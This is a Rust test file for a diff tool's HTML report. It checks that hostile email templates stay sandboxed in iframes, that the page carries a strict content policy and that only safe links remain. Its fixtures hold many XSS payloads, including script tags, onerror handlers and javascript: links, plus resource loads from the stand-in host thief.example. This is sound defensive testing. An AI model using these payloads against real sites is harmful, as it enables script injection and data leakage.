//! The page that `journeyc diff --format html` writes, of changes by people who mean harm.
//!
//! `JOURNEYC_ORACLE_OUT/review` gets the pages that `tests/oracles/review.mjs` opens in a browser.

use std::fs;
use std::path::PathBuf;

use crate::cli::run;
use crate::diff::changed;
use crate::repository::Repository;
use crate::snapshot;

/// Where every attempt to call home leads.
const THIEF: &str = "thief.example";

/// What a mail may try: to run something, to call home, to go elsewhere, to leave its frame, to cover
/// the page. `N` is replaced by the side that it stands on, so that each call names its mail.
const MAIL: &str = r#"<!doctype html>
<html lang="en" manifest="http://thief.example/manifest">
<head>
<meta charset="utf-8">
<title></title><script>window.__pwned = "title"; parent.__pwned = "title"</script></title>
<base href="http://thief.example/base/" target="_top">
<meta http-equiv="refresh" content="0;url=http://thief.example/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline' *">
<meta http-equiv="x-dns-prefetch-control" content="on">
<link rel="stylesheet" href="http://thief.example/style.css">
<LINK rel="preconnect" href="http://preconnect.thief.example/">
<link rel="dns-prefetch" href="http://lookup.thief.example/">
<link rel="prefetch" href="http://thief.example/prefetch">
<link rel="preload" as="image" href="http://thief.example/preload">
<link rel="icon" href="http://thief.example/icon">
<script src="http://thief.example/script.js"></script>
<script type="speculationrules">{"prefetch":[{"urls":["http://thief.example/speculation"]}]}</script>
<style>
@import "http://thief.example/import.css";
@font-face { font-family: Thief; src: url(http://thief.example/font) }
body { font-family: Thief; background: url(http://thief.example/background); width: expression(window.__pwned = "expression"); behavior: url(http://thief.example/behavior) }
.cover { position: fixed; inset: -9999px; z-index: 2147483647; background: red; opacity: 0.9 }
li { list-style-image: url("http://thief.example/list"); cursor: url(http://thief.example/cursor), auto }
a, area { pointer-events: auto !important }
</style><script>window.__pwned = "style"; parent.__pwned = "style"</script>
</head>
<body onload="window.__pwned='load';parent.__pwned='load'" background="http://thief.example/body">
<div class="cover">cover</div>
<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:url('http://thief.example/fixed')">over</p>
<p id="one">"></iframe><script>parent.__pwned = "quote"; window.__pwned = "quote"</script></p>
<p id="two">&quot;&gt;&lt;/iframe&gt;&lt;script&gt;window.__pwned = "entity"&lt;/script&gt;</p>
<p id="three">' onload='window.__pwned="apostrophe"' x='--><!-- ]] --></textarea></title></style></script></p>
<img alt="" src="x" onerror="window.__pwned='error';parent.__pwned='error';alert(1)">
<img alt="" src="http://thief.example/pixel.gif" srcset="http://thief.example/two.gif 2x">
<picture><source srcset="http://thief.example/source"><img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></picture>
<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned='svg';parent.__pwned='svg'"><script>window.__pwned = "svg script"</script><image href="http://thief.example/svg"/><use href="http://thief.example/use#a"/><a href="javascript:alert(1)"><text y="20">svg link</text></a><animate attributeName="x" onbegin="window.__pwned='animate'"/><foreignObject><iframe src="http://thief.example/foreign"></iframe></foreignObject></svg>
<math><mtext><img alt="" src="x" onerror="window.__pwned='math'"></mtext></math>
<iframe src="http://thief.example/frame"></iframe>
<iframe src="javascript:parent.parent.__pwned='frame'"></iframe>
<iframe srcdoc="<script>parent.parent.__pwned='nested';window.__pwned='nested'</script><img src='http://thief.example/nested'>"></iframe>
<object data="http://thief.example/object"><embed src="http://thief.example/embed"></object>
<video src="http://thief.example/video" poster="http://thief.example/poster" autoplay></video>
<audio src="http://thief.example/audio" autoplay></audio>
<form action="http://thief.example/form" target="_top"><input name="q" value="x" autofocus onfocus="window.__pwned='focus'"><input type="image" alt="" src="http://thief.example/input"><button id="send">send</button></form>
<details open ontoggle="window.__pwned='toggle'"><summary>more</summary></details>
<ul><li>item</li></ul>
<p><a id="go" href="http://thief.example/go" target="_top" ping="http://thief.example/ping">top</a>
<a id="blank" href="http://thief.example/blank" target="_blank">blank</a>
<a id="self" href="http://thief.example/self">self</a>
<a id="own" href="http://thief.example/own" target="_self">own</a>
<svg width="90" height="20"><a id="drawn" href="http://thief.example/drawn"><text y="20">drawn</text></a></svg>
<a id="code" href="javascript:window.__pwned='link';parent.__pwned='link';alert(2)">code</a>
<a id="mail" href="mailto:a@thief.example">mail</a>
<a id="data" href="data:text/html,<script>alert(3)</script>" target="_top">data</a>
<a id="file" href="http://thief.example/file" download>file</a></p>
<p>SIDE</p>
</body>
</html>
"#;

/// A name that would be markup, if anything were.
const NAME: &str =
    "\"><img src=x onerror=window.__pwned='name'><script>window.__pwned='name'</script>";

/// The small shop, with a mail, names and titles that mean harm on both sides.
fn hostile() -> Repository {
    let it = Repository::new();
    crate::diff::lay(&snapshot::root("tests/cases/diff/shop"), it.folder.path());
    write_hostile(&it, "before", 22);
    it.commit();
    write_hostile(&it, "after", 2);
    it
}

fn write_hostile(it: &Repository, side: &str, hours: u32) {
    let quoted = NAME.replace('"', "\\\"");
    let subject = format!("{side} {quoted} &quot;>' \\u202e");
    let mail = MAIL.replace("SIDE", side);
    it.write(
        "templates/hostile.html",
        &format!("---\nsubject: \"{subject}\"\npreheader: \"{subject}\"\n---\n{mail}"),
    );
    let journey = format!(
        "journey: hostile\ntitle: \"{subject}\"\nowner: lifecycle\nstage: after\nclass: transactional\n\
         basis: soft_opt_in\nfrom: care\ntrigger: {{event: order_paid}}\nreentry: per_key\nsteps:\n\
         \x20 - wait: {{id: a-while, for: {hours}h}}\n\
         \x20 - send: {{id: hostile, title: \"{subject}\", template: hostile, purpose: wow}}\n"
    );
    // Only here may a file be called anything.
    let name = if cfg!(windows) {
        "hostile"
    } else {
        "<img src=x onerror=alert(1)>"
    };
    it.write(&format!("journeys/{name}.yaml"), &journey);
}

fn page(it: &Repository, address: &str) -> String {
    let to = ["--source-url", address, "--report-url", address];
    let args = ["diff", "HEAD", "--format", "html"];
    let run = run(it.folder.path(), &[&args[..], &to].concat());
    assert_eq!((run.exit, run.err.as_str()), (0, ""));
    run.out
}

/// The page without what stands in its frames.
fn without_mails(page: &str) -> String {
    let mut parts = page.split(" srcdoc=\"");
    let mut out = parts.next().unwrap().to_owned();
    for part in parts {
        out.push_str(part.split_once('"').unwrap().1);
    }
    out
}

fn keep(name: &str, page: &str) {
    if let Some(out) = std::env::var_os("JOURNEYC_ORACLE_OUT") {
        let folder = PathBuf::from(out).join("review");
        fs::create_dir_all(&folder).unwrap();
        fs::write(folder.join(name), page).unwrap();
    }
}

#[test]
fn a_hostile_mail_stays_in_its_frame() {
    let page = page(&hostile(), "https://git.example/shop/blob/main");
    keep("hostile.html", &page);
    let frames = page.matches("<iframe").count();
    assert!(frames >= 2, "a mail before and after");
    let whole = "<iframe sandbox=\"\" loading=\"lazy\" referrerpolicy=\"no-referrer\" title=\"";
    assert_eq!(page.matches(whole).count(), frames, "each may do nothing");
    assert_eq!(page.matches("</iframe>").count(), frames);
    assert!(page.contains(THIEF), "the mails are there as they are");
    let own = without_mails(&page);
    for tag in ["<script", "<img", "<link", "<base", "<object", "<form"] {
        assert!(!own.contains(tag), "{tag}");
    }
    let policy = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; ";
    assert_eq!(own.matches(policy).count(), 1);
    assert!(own.find(policy).unwrap() < own.find("<title>").unwrap());
}

#[test]
fn links_lead_to_pages_only() {
    let hrefs = |page: &str| -> Vec<String> {
        let own = without_mails(page);
        let all = own.split(" href=\"").skip(1);
        all.map(|it| it.split('"').next().unwrap().to_owned())
            .collect()
    };
    for bad in ["javascript:alert(1)", "data:text/html,x", "//a.example"] {
        let page = page(&hostile(), bad);
        for it in hrefs(&page) {
            assert!(it.starts_with('#'), "{bad}: {it}");
        }
    }
    let good = page(&hostile(), "https://git.example/shop/blob/main");
    let out: Vec<String> = hrefs(&good)
        .into_iter()
        .filter(|it| !it.starts_with('#'))
        .collect();
    assert!(!out.is_empty());
    for it in out {
        assert!(
            it.starts_with("https://git.example/shop/blob/main/journey"),
            "{it}"
        );
    }
}

#[test]
fn a_page_can_be_read_by_anybody() {
    let case = snapshot::root("tests/cases/diff/several-things-at-once");
    let page = page(&changed(&case), "https://git.example/shop/blob/main");
    keep("shop.html", &page);
    for id in ["journeys", "words", "emails", "findings"] {
        assert!(page.contains(&format!("<section id=\"{id}\">")), "{id}");
        assert!(page.contains(&format!("<a href=\"#{id}\">")), "{id}");
    }
    // Every link inside of the page leads somewhere.
    for to in page.split(" href=\"#").skip(1) {
        let id = to.split('"').next().unwrap();
        assert!(page.contains(&format!(" id=\"{id}\"")), "{id}");
    }
}
